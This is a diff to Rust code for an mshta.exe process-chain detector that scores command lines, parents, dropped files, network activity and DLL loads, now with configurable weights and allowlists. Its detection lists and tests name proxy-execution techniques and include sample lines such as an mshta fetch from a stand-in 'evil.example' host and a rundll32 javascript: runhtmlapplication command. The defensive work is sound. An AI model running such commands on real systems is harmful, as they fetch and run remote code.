@@ -5,37 +5,52 @@
 //! detection content (SigmaHQ, Elastic, Splunk, LOLBAS, Atomic Red Team;
 //! see `../shared/reference/indicators.md`); the weights are ours.
 
-use crate::event::Activity;
+use crate::chains::referenced_paths;
+use crate::event::{Activity, Direction};
+use crate::inventory::command_shape;
 use crate::names::{basename, lower};
 use crate::report::Reason;
+use crate::tuning::{parse_ip, Tuning};
 use crate::view::View;
 
 /// Scores a chain: the clamped sum and the reasons. Follow-on activity
-/// after the window scores as late.
-pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
+/// after the window scores as late. Points come from the tuning (config
+/// weights, else the catalogue's defaults).
+pub(crate) fn score(v: &View, t: &Tuning) -> (i64, Vec<Reason>) {
     let root_index: Vec<u64> = v.root.events.clone();
     let mut reasons = Vec::new();
-    let mut add = |id: &'static str, points: i64, detail: String, events: Vec<u64>| {
-        reasons.push(Reason { id: id.to_string(), points, detail, events });
+    let mut add = |id: &'static str, detail: String, events: Vec<u64>| {
+        reasons.push(Reason { id: id.to_string(), points: t.points(id), detail, events });
     };
+    let root_ev = || root_index.clone();
 
     add(
         "mshta_execution",
-        5,
         format!("{} ran{}", basename(v.root.image), if v.root.inferred { " (start not seen; inferred)" } else { "" }),
-        root_index.clone(),
+        root_ev(),
     );
 
     // Command line.
-    let cmd = v.root.command_line.map(lower).unwrap_or_default();
+    let raw_cmd = v.root.command_line.unwrap_or("");
+    let cmd = lower(raw_cmd);
     let mut script_content = false;
     if let Some(handler) = ["javascript:", "vbscript:", "about:"].iter().find(|h| cmd.contains(*h)) {
         script_content = true;
-        add("cmdline_inline_script", 30, format!("command line runs inline script ({handler})"), root_index.clone());
+        add("cmdline_inline_script", format!("command line runs inline script ({handler})"), root_ev());
     }
+    let url_host = url_host(&cmd);
     if let Some(target) = remote_target(&cmd) {
         script_content = true;
-        add("cmdline_remote_target", 30, format!("command line loads remote content ({target})"), root_index.clone());
+        let shown = url_host.map(|h| format!(" {h}")).unwrap_or_default();
+        add("cmdline_remote_target", format!("command line loads remote content ({target}{shown})"), root_ev());
+    }
+    if let Some(h) = url_host {
+        if parse_ip(h).is_some() {
+            add("cmdline_raw_ip_url", format!("the URL addresses {h} by IP"), root_ev());
+        }
+        if t.domain_allowed(h) {
+            add("allowlisted_domain", format!("{h} is under an allowlisted domain"), root_ev());
+        }
     }
     let mut tokens: Vec<&str> = [
         "getobject",
@@ -51,19 +66,14 @@ pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
         "regwrite",
     ]
     .into_iter()
-    .filter(|t| cmd.contains(t))
+    .filter(|tok| cmd.contains(tok))
     .collect();
     if has_script_moniker(&cmd) {
         tokens.push("script: moniker");
     }
     if !tokens.is_empty() {
         script_content = true;
-        add(
-            "cmdline_script_object",
-            15,
-            format!("command line uses script objects ({})", tokens.join(", ")),
-            root_index.clone(),
-        );
+        add("cmdline_script_object", format!("command line uses script objects ({})", tokens.join(", ")), root_ev());
     }
     let mut obfuscation: Vec<&str> = [
         ("%2", "percent-encoding"),
@@ -74,53 +84,99 @@ pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
         ("^", "caret escapes"),
     ]
     .into_iter()
-    .filter(|(t, _)| cmd.contains(t))
+    .filter(|(tok, _)| cmd.contains(tok))
     .map(|(_, name)| name)
     .collect();
     obfuscation.dedup();
     if !obfuscation.is_empty() {
-        add(
-            "cmdline_obfuscation",
-            10,
-            format!("command line is obfuscated ({})", obfuscation.join(", ")),
-            root_index.clone(),
-        );
+        add("cmdline_obfuscation", format!("command line is obfuscated ({})", obfuscation.join(", ")), root_ev());
     }
     if let Some(dir) = user_writable_dir(&cmd) {
         if cmd.contains(".hta") {
             script_content = true;
         }
+        add("cmdline_user_writable_path", format!("command line references a user-writable folder ({dir})"), root_ev());
+    }
+    if let Some(what) = archive_temp(&cmd) {
+        script_content = true;
         add(
-            "cmdline_user_writable_path",
-            10,
-            format!("command line references a user-writable folder ({dir})"),
-            root_index.clone(),
+            "cmdline_archive_temp_path",
+            format!("the HTA runs from an archive's temporary folder ({what})"),
+            root_ev(),
         );
+    }
+    let own_name = lower(basename(v.root.image)).into_owned();
+    let local_paths: Vec<&str> = referenced_paths(raw_cmd)
+        .into_iter()
+        .filter(|p| !p.contains("://") && !lower(basename(p)).eq(&own_name) && !lower(p).ends_with("mshta.exe"))
+        .filter(|p| !(p.starts_with('{') && p.ends_with('}')))
+        .collect();
+    if let Some(p) = local_paths.iter().find(|p| p.len() > 2 && p[2..].contains(':')) {
+        script_content = true;
+        add("cmdline_alternate_data_stream", format!("runs content from an alternate data stream ({p})"), root_ev());
+    } else if let Some(p) = local_paths.iter().find(|p| {
+        let ext = lower(basename(p)).rsplit_once('.').map(|(_, e)| e.to_string()).unwrap_or_default();
+        !ext.is_empty() && !matches!(ext.as_str(), "hta" | "htm" | "html" | "mht" | "mhtml" | "exe")
+    }) {
+        script_content = true;
+        add("cmdline_non_hta_target", format!("runs a file that is not an .hta ({})", basename(p)), root_ev());
+    }
+    let embedding = cmd.contains("-embedding") || cmd.contains("/embedding");
+    if embedding {
+        add("cmdline_embedding", "started as a COM server (-Embedding)".into(), root_ev());
+    }
+    if let Some(pattern) = t.command_line_allowed(raw_cmd) {
+        add("allowlisted_command_line", format!("command line matches the allowlisted pattern {pattern:?}"), root_ev());
+    }
+    if let Some(prefix) = local_paths.iter().find_map(|p| t.hta_path_allowed(p)) {
+        add("allowlisted_hta_path", format!("the HTA is under the allowlisted folder {prefix}"), root_ev());
     }
 
     // Binary identity.
     let image = v.root.image;
     let name = basename(image);
     if !name.eq_ignore_ascii_case("mshta.exe") && v.root.original_file_name.is_some() {
-        add("renamed_binary", 30, format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"), root_index.clone());
+        add("renamed_binary", format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"), root_ev());
     }
     let l = lower(image);
     if l.contains('\\') && !(l.contains("\\windows\\system32\\") || l.contains("\\windows\\syswow64\\")) {
-        add(
-            "unusual_image_path",
-            20,
-            format!("mshta runs from outside System32/SysWOW64 ({image})"),
-            root_index.clone(),
-        );
+        add("unusual_image_path", format!("mshta runs from outside System32/SysWOW64 ({image})"), root_ev());
     }
 
     // Lineage.
-    if let Some(pimg) = v.parent.as_ref().and_then(|p| p.image) {
+    let parent_image = v.parent.as_ref().and_then(|p| p.image);
+    if let Some(pimg) = parent_image {
         let pname = lower(basename(pimg)).into_owned();
         let parent_cmd = v.parent.as_ref().and_then(|p| p.command_line).map(lower).unwrap_or_default();
-        if let Some((points, what)) = parent_grade(&pname, &parent_cmd, &cmd) {
-            add("suspicious_parent", points, format!("started by {what} ({})", basename(pimg)), root_index.clone());
+        if let Some((id, what)) = parent_grade(&pname, &parent_cmd, embedding) {
+            add(id, format!("started by {what} ({})", basename(pimg)), root_ev());
         }
+        if t.parent_allowed(pimg) {
+            add("allowlisted_parent", format!("{} is an allowlisted parent", basename(pimg)), root_ev());
+        }
+    }
+    let ancestors: Vec<&str> = v
+        .lineage
+        .iter()
+        .filter_map(|a| a.image)
+        .filter(|img| {
+            let n = lower(basename(img));
+            matches!(parent_grade(&n, "", false), Some(("parent_office" | "parent_wmi", _)))
+        })
+        .collect();
+    if let Some(a) = ancestors.first() {
+        add("ancestor_suspicious", format!("{} is an ancestor of the launcher", basename(a)), root_ev());
+    }
+    let parent_name = parent_image.map(|p| lower(basename(p)).into_owned()).unwrap_or_default();
+    if v.root.command_line.is_some() && t.in_baseline(&command_shape(raw_cmd), &parent_name) {
+        add(
+            "baseline_known",
+            "this command-line shape and parent are in the baseline of known-good use".into(),
+            root_ev(),
+        );
+    }
+    if t.host_allowed(v.host) {
+        add("allowlisted_host", format!("{} is an allowlisted host", v.host), root_ev());
     }
 
     // A file written shortly before, then run by mshta.
@@ -130,14 +186,14 @@ pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
         let by = f.writer_image.as_deref().map(basename).unwrap_or("another process");
         add(
             "file_written_then_run",
-            20,
             format!("{} was written by {by} shortly before mshta ran it", basename(&f.path)),
             vec![f.event],
         );
     }
 
     // Follow-on: descendants.
-    let (mut lolbins, mut others, mut late_events, mut executed) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
+    let (mut lolbins, mut others, mut late_events, mut executed, mut user_folder) =
+        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
     for m in &v.members {
         let first = m.events.first().copied().unwrap_or(0);
         if m.late {
@@ -145,37 +201,44 @@ pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
             continue;
         }
         follow_on = true;
-        if m.executed_file {
-            executed.push((basename(m.image).to_string(), first));
-        }
         let name = lower(basename(m.image)).into_owned();
+        if m.executed_file {
+            executed.push((name.clone(), first));
+        }
+        let path = lower(m.image);
+        if path.contains("\\users\\") || path.contains("\\windows\\temp\\") || path.contains("\\programdata\\") {
+            user_folder.push((name.clone(), first));
+        }
         if LOLBINS.contains(&name.as_str()) {
             lolbins.push((name, first));
         } else {
             others.push((name, first));
         }
     }
+    let names = |v: &[(String, u64)]| unique(v.iter().map(|(n, _)| n.as_str()));
+    let evs = |v: &[(String, u64)]| v.iter().map(|(_, i)| *i).collect::<Vec<u64>>();
     if !lolbins.is_empty() {
-        let names = unique(lolbins.iter().map(|(n, _)| n.as_str()));
-        add("child_shell_or_lolbin", 25, format!("spawned {names}"), lolbins.iter().map(|(_, i)| *i).collect());
+        add("child_shell_or_lolbin", format!("spawned {}", names(&lolbins)), evs(&lolbins));
     }
     if !others.is_empty() {
-        let names = unique(others.iter().map(|(n, _)| n.as_str()));
-        add("child_process", 10, format!("spawned {names}"), others.iter().map(|(_, i)| *i).collect());
+        add("child_process", format!("spawned {}", names(&others)), evs(&others));
     }
-    if !executed.is_empty() {
-        let names = unique(executed.iter().map(|(n, _)| n.as_str()));
+    if !user_folder.is_empty() {
         add(
-            "written_file_executed",
-            25,
-            format!("ran a file the chain wrote ({names})"),
-            executed.iter().map(|(_, i)| *i).collect(),
+            "child_in_user_folder",
+            format!("ran {} from a user-writable folder", names(&user_folder)),
+            evs(&user_folder),
         );
     }
+    if !executed.is_empty() {
+        add("written_file_executed", format!("ran a file the chain wrote ({})", names(&executed)), evs(&executed));
+    }
 
-    // Follow-on: files, network, DNS.
-    let (mut files, mut bad_files, mut public, mut private, mut dns) =
+    // Follow-on: files, network, DNS, modules.
+    let (mut files, mut dropped, mut startup) = (Vec::new(), Vec::new(), Vec::new());
+    let (mut public, mut private, mut allowed_net, mut odd_ports, mut dcom) =
         (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
+    let (mut dns, mut dns_allowed, mut dns_match, mut clr) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
     for a in &v.acts {
         let first = a.events[0];
         if a.late {
@@ -187,69 +250,154 @@ pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
         match a.what {
             Activity::FileCreate { path } => {
                 follow_on = true;
-                if suspicious_file(path) {
-                    bad_files.push((basename(path).to_string(), first));
+                let l = lower(path);
+                if l.contains("\\start menu\\programs\\startup\\") {
+                    startup.push((basename(path).to_string(), first));
+                } else if suspicious_file(&l) {
+                    dropped.push((basename(path).to_string(), first));
                 } else {
                     files.push(first);
                 }
             }
             Activity::Network(n) => {
                 follow_on = true;
-                match n.remote_ip() {
-                    Some(ip) if !is_internal_ip(ip) => public.push((ip.to_string(), first)),
-                    _ => private.push(first),
+                let remote = n.remote_ip().unwrap_or("");
+                let remote_port = match n.direction {
+                    Direction::Inbound => n.src_port,
+                    _ => n.dst_port,
+                };
+                if embedding
+                    && n.direction == Direction::Inbound
+                    && n.src_port.unwrap_or(0) > 49151
+                    && n.dst_port.unwrap_or(0) > 49151
+                {
+                    dcom.push((remote.to_string(), first));
+                }
+                if t.network_allowed(remote) || n.dst_host.as_deref().is_some_and(|h| t.domain_allowed(h)) {
+                    allowed_net.push((remote.to_string(), first));
+                } else if remote.is_empty() || is_internal_ip(remote) {
+                    private.push(first);
+                } else {
+                    if !matches!(remote_port, Some(80 | 443) | None) {
+                        odd_ports.push((format!("{remote}:{}", remote_port.unwrap_or(0)), first));
+                    }
+                    public.push((remote.to_string(), first));
                 }
             }
             Activity::Dns { query } => {
                 follow_on = true;
-                dns.push((query.to_string(), first));
+                let q = lower(query);
+                if t.domain_allowed(&q) {
+                    dns_allowed.push((q.to_string(), first));
+                } else {
+                    if url_host.is_some_and(|h| h == q.trim_end_matches('.')) {
+                        dns_match.push((q.to_string(), first));
+                    }
+                    dns.push((q.to_string(), first));
+                }
             }
-            Activity::ImageLoad { .. } => {}
+            Activity::ImageLoad { path } => {
+                let n = lower(basename(path));
+                if matches!(n.as_ref(), "clr.dll" | "clrjit.dll" | "mscoree.dll" | "mscoreei.dll" | "mscorlib.ni.dll") {
+                    clr.push((n.into_owned(), first));
+                }
+            }
         }
     }
-    if !bad_files.is_empty() {
-        let names = unique(bad_files.iter().map(|(n, _)| n.as_str()));
+    if !startup.is_empty() {
+        add("file_in_startup", format!("wrote into a Startup folder ({})", names(&startup)), evs(&startup));
+    }
+    if !dropped.is_empty() {
         add(
-            "file_suspicious",
-            15,
-            format!("wrote executable, script, archive or startup files ({names})"),
-            bad_files.iter().map(|(_, i)| *i).collect(),
+            "file_dropped_executable",
+            format!("wrote executables, scripts or archives ({})", names(&dropped)),
+            evs(&dropped),
         );
     }
     if !files.is_empty() {
-        add("file_created", 5, format!("created {} file(s)", files.len()), files);
+        add("file_created", format!("created {} other file(s)", files.len()), files);
     }
     if !public.is_empty() {
-        let ips = unique(public.iter().map(|(n, _)| n.as_str()));
+        add("network_public", format!("connected to public address(es) {}", names(&public)), evs(&public));
+    }
+    if !odd_ports.is_empty() {
+        add("network_unusual_port", format!("used non-web ports ({})", names(&odd_ports)), evs(&odd_ports));
+    }
+    if !dcom.is_empty() {
         add(
-            "network_public",
-            15,
-            format!("connected to public address(es) {ips}"),
-            public.iter().map(|(_, i)| *i).collect(),
+            "dcom_inbound",
+            format!("received inbound high-port connections as a COM server (from {})", names(&dcom)),
+            evs(&dcom),
         );
     }
     if !private.is_empty() {
-        add("network_internal", 5, format!("made {} internal or loopback connection(s)", private.len()), private);
+        add("network_internal", format!("made {} internal or loopback connection(s)", private.len()), private);
+    }
+    if !allowed_net.is_empty() || !dns_allowed.is_empty() {
+        let mut all = allowed_net.clone();
+        all.extend(dns_allowed.iter().cloned());
+        add(
+            "allowlisted_network",
+            format!("{} connection(s) or lookup(s) to allowlisted networks or domains ({})", all.len(), names(&all)),
+            evs(&all),
+        );
     }
     if !dns.is_empty() {
-        let names = unique(dns.iter().map(|(n, _)| n.as_str()));
-        add("dns_query", 5, format!("looked up {names}"), dns.iter().map(|(_, i)| *i).collect());
+        add("dns_query", format!("looked up {}", names(&dns)), evs(&dns));
+    }
+    if !dns_match.is_empty() {
+        add(
+            "dns_matches_cmdline_host",
+            format!("looked up the command line's URL host {}", names(&dns_match)),
+            evs(&dns_match),
+        );
+    }
+    if !clr.is_empty() {
+        add("clr_loaded", format!("loaded the .NET runtime ({})", names(&clr)), evs(&clr));
     }
     if !late_events.is_empty() {
         late_events.sort_unstable();
         add(
             "late_activity",
-            5,
             format!("{} follow-on event(s) after the {}-second window", late_events.len(), v.window_ms / 1000),
             late_events,
         );
     }
     if script_content && follow_on {
-        add("an1397_pattern", 15, "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(), root_index);
+        add(
+            "an1397_pattern",
+            "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(),
+            root_index,
+        );
     }
 
     let total: i64 = reasons.iter().map(|r| r.points).sum();
     (total.clamp(0, 100), reasons)
+}
+
+/// The host of the first http(s)/ftp URL in a command line.
+fn url_host(cmd: &str) -> Option<&str> {
+    let start =
+        ["https://", "http://", "ftps://", "ftp://"].iter().filter_map(|s| cmd.find(s).map(|i| i + s.len())).min()?;
+    let rest = &cmd[start..];
+    let end = rest.find(['/', ':', '"', '\'', ')', ' ', '?', '#', '\\']).unwrap_or(rest.len());
+    let host = &rest[..end];
+    let host = host.rsplit('@').next().unwrap_or(host);
+    (!host.is_empty()).then_some(host)
+}
+
+fn archive_temp(cmd: &str) -> Option<&'static str> {
+    [
+        ("\\temp\\7z", "7-Zip"),
+        ("\\temp\\rar$", "WinRAR"),
+        ("\\temp\\temp1_", "Windows zip"),
+        ("\\temp\\temp2_", "Windows zip"),
+        (".zip\\", "zip"),
+        ("\\temp\\bnz.", "archive"),
+    ]
+    .into_iter()
+    .find(|(needle, _)| cmd.contains(needle))
+    .map(|(_, name)| name)
 }
 
 /// Shells, script hosts and living-off-the-land binaries public rules flag
@@ -326,8 +474,8 @@ fn user_writable_dir(cmd: &str) -> Option<&'static str> {
     .map(|(_, name)| name)
 }
 
-/// Grades the parent: points and a description, or `None` when ordinary.
-fn parent_grade(name: &str, parent_cmd: &str, cmd: &str) -> Option<(i64, &'static str)> {
+/// The lineage reason for a parent, or `None` when ordinary.
+fn parent_grade(name: &str, parent_cmd: &str, embedding: bool) -> Option<(&'static str, &'static str)> {
     const OFFICE: &[&str] = &[
         "winword.exe",
         "excel.exe",
@@ -352,27 +500,32 @@ fn parent_grade(name: &str, parent_cmd: &str, cmd: &str) -> Option<(i64, &'stati
     ];
     const BROWSERS: &[&str] = &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];
     if OFFICE.contains(&name) {
-        Some((25, "an Office application"))
+        Some(("parent_office", "an Office application"))
     } else if name == "wmiprvse.exe" || name == "scrcons.exe" {
-        Some((20, "WMI"))
-    } else if name == "svchost.exe" && (parent_cmd.contains("dcomlaunch") || cmd.contains("-embedding")) {
-        Some((20, "DCOM (svchost DcomLaunch)"))
+        Some(("parent_wmi", "WMI"))
+    } else if name == "svchost.exe" && (parent_cmd.contains("dcomlaunch") || embedding) {
+        Some(("parent_dcom", "DCOM (svchost DcomLaunch)"))
+    } else if name == "rundll32.exe"
+        && (parent_cmd.contains("runhtmlapplication") || parent_cmd.contains("fileprotocolhandler"))
+    {
+        Some(("parent_rundll32_handler", "rundll32 proxying HTML execution"))
     } else if SHELLS.contains(&name) {
-        Some((15, "a shell or script host"))
+        Some(("parent_script_host", "a shell or script host"))
     } else if BROWSERS.contains(&name) {
-        Some((15, "a web browser"))
+        Some(("parent_browser", "a web browser"))
+    } else if name == "explorer.exe" {
+        Some(("parent_explorer", "Explorer (a double-click)"))
     } else {
         None
     }
 }
 
-fn suspicious_file(path: &str) -> bool {
-    let l = lower(path);
+fn suspicious_file(l: &str) -> bool {
     const EXTENSIONS: &[&str] = &[
         ".exe", ".dll", ".com", ".scr", ".ocx", ".jar", ".ps1", ".psm1", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse",
         ".wsf", ".wsh", ".hta", ".sct", ".lnk", ".zip", ".rar", ".7z", ".iso", ".msi", ".chm",
     ];
-    EXTENSIONS.iter().any(|e| l.ends_with(e)) || l.contains("\\start menu\\programs\\startup\\")
+    EXTENSIONS.iter().any(|e| l.ends_with(e))
 }
 
 /// Private, loopback, link-local and other non-routable addresses.
@@ -461,12 +614,23 @@ mod tests {
 
     #[test]
     fn parents_are_graded() {
-        assert_eq!(parent_grade("winword.exe", "", "").map(|g| g.0), Some(25));
+        assert_eq!(parent_grade("winword.exe", "", false).map(|g| g.0), Some("parent_office"));
+        let dcom = "c:\\windows\\system32\\svchost.exe -k dcomlaunch -p";
+        assert_eq!(parent_grade("svchost.exe", dcom, false).map(|g| g.0), Some("parent_dcom"));
+        assert_eq!(parent_grade("svchost.exe", "svchost.exe -k netsvcs", false), None);
+        assert_eq!(parent_grade("explorer.exe", "", false).map(|g| g.0), Some("parent_explorer"));
+        let handler = "rundll32.exe javascript:\"\\..\\mshtml,runhtmlapplication\"";
+        assert_eq!(parent_grade("rundll32.exe", handler, false).map(|g| g.0), Some("parent_rundll32_handler"));
+    }
+
+    #[test]
+    fn url_hosts() {
+        assert_eq!(url_host("mshta https://cdn.evil.example/a.hta"), Some("cdn.evil.example"));
+        assert_eq!(url_host("mshta http://10.0.0.5:8080/x"), Some("10.0.0.5"));
         assert_eq!(
-            parent_grade("svchost.exe", "c:\\windows\\system32\\svchost.exe -k dcomlaunch -p", "").map(|g| g.0),
-            Some(20)
+            url_host("getobject('script:https://raw.githubusercontent.com/x')"),
+            Some("raw.githubusercontent.com")
         );
-        assert_eq!(parent_grade("svchost.exe", "svchost.exe -k netsvcs", ""), None);
-        assert_eq!(parent_grade("explorer.exe", "", ""), None);
+        assert_eq!(url_host("mshta c:\\a.hta"), None);
     }
 }
